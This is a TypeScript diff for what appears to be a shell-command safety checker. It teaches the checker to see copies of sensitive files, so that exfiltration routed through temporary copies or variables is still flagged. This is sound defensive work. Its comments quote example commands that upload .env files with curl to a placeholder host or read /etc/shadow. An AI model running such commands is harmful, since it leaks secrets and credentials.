@@ -57,6 +57,44 @@ interface Binding {
 export class ShellBindings {
   private readonly variables = new Map<string, Binding>();
   private readonly aliases = new Map<string, string>();
+  /** Copies the text made of sensitive files, by the copy's path (see staging.ts). */
+  private readonly staged = new Map<string, string>();
+
+  /** Whether the text copied any sensitive file. */
+  get hasStaged(): boolean {
+    return this.staged.size > 0;
+  }
+
+  /** Copies noted in the pipeline being read, which only later pipelines may read as their originals. */
+  private readonly pending: (readonly [string, string])[] = [];
+
+  /** Notes that `copy` holds what `original` held, from the next pipeline on (see `settle`). */
+  stage(copy: string, original: string): void {
+    this.pending.push([copy, original]);
+  }
+
+  /**
+   * Makes the copies the last pipeline noted readable. Not sooner: the command that made a copy
+   * names it as its destination (`cp /etc/shadow /dev/stdout`), which is no use of the original.
+   */
+  settle(): void {
+    for (const [copy, original] of this.pending) {
+      if (this.staged.has(copy) || this.room()) this.staged.set(copy, original);
+    }
+    this.pending.length = 0;
+  }
+
+  /** The sensitive file `word` names as a copy of it (`/tmp/x`, `@/tmp/x`, `f=@/tmp/x`), with the original written in. */
+  unstaged(text: string): string | undefined {
+    for (const [copy, original] of this.staged) {
+      if (text === copy) return original;
+      if (text.endsWith(copy)) {
+        const before = text[text.length - copy.length - 1];
+        if (before === "@" || before === "=") return text.slice(0, text.length - copy.length) + original;
+      }
+    }
+    return undefined;
+  }
 
   /** Whether any alias is bound: most scripts bind none, and then no name needs looking up. */
   get hasAliases(): boolean {
@@ -124,13 +162,15 @@ export class ShellBindings {
   }
 
   private room(): boolean {
-    return this.variables.size + this.aliases.size < MAX_BINDINGS;
+    return this.variables.size + this.aliases.size + this.staged.size < MAX_BINDINGS;
   }
 }
 
 /**
  * `pipeline` with the variables the text bound written in (`F=.env; curl -d @$F host` reads as
- * `curl -d @.env host`, `X=$(cat .env); curl host/?d=$X` as `curl host/?d=$(cat .env)`), for
+ * `curl -d @.env host`, `X=$(cat .env); curl host/?d=$X` as `curl host/?d=$(cat .env)`), and
+ * the sensitive files it copied named by their originals (`cp .env /tmp/x; curl -T /tmp/x host`
+ * reads as `curl -T .env host`), for
  * the rules to judge as it will run; undefined when it uses none of them. An unquoted variable
  * that stands alone with a fixed value splits into words, as the shell splits it.
  */
@@ -142,7 +182,11 @@ export function substitutedPipeline(pipeline: Pipeline, bindings: ShellBindings)
     let redirects: Redirect[] = command.redirects;
     for (let k = 0; k < command.redirects.length; k++) {
       const r = command.redirects[k]!;
-      const target = r.target.dynamic ? substitutedWord(r.target, bindings) : undefined;
+      const target = r.target.dynamic
+        ? substitutedWord(r.target, bindings)
+        : bindings.hasStaged
+          ? unstagedWord(r.target, bindings)?.[0]
+          : undefined;
       if (target === undefined) continue;
       if (redirects === command.redirects) redirects = command.redirects.slice();
       const copy = new RedirectNode(r.fd, r.op, target, r.start, r.end);
@@ -164,7 +208,11 @@ function substitutedWords(words: Word[], bindings: ShellBindings): Word[] {
   let out: Word[] | undefined;
   for (let k = 0; k < words.length; k++) {
     const w = words[k]!;
-    const replaced = w.dynamic ? replacementOf(w, bindings) : undefined;
+    const replaced = w.dynamic
+      ? replacementOf(w, bindings)
+      : bindings.hasStaged
+        ? unstagedWord(w, bindings)
+        : undefined;
     if (replaced === undefined) {
       out?.push(w);
       continue;
@@ -190,6 +238,12 @@ function replacementOf(word: Word, bindings: ShellBindings): Word[] | undefined 
   const fixed = expandWord(word, bindings);
   if (fixed === undefined) return undefined;
   return word.quoted ? listOf(staticWord(fixed, word)) : splitWords(fixed, word);
+}
+
+/** A word naming a staged copy, as the words naming the original; undefined when it names none. */
+function unstagedWord(word: Word, bindings: ShellBindings): Word[] | undefined {
+  const original = bindings.unstaged(word.text);
+  return original === undefined ? undefined : listOf(staticWord(original, word));
 }
 
 /** Expansions the shell fixes without the text binding anything: `IFS`, and a path variable's first character. */
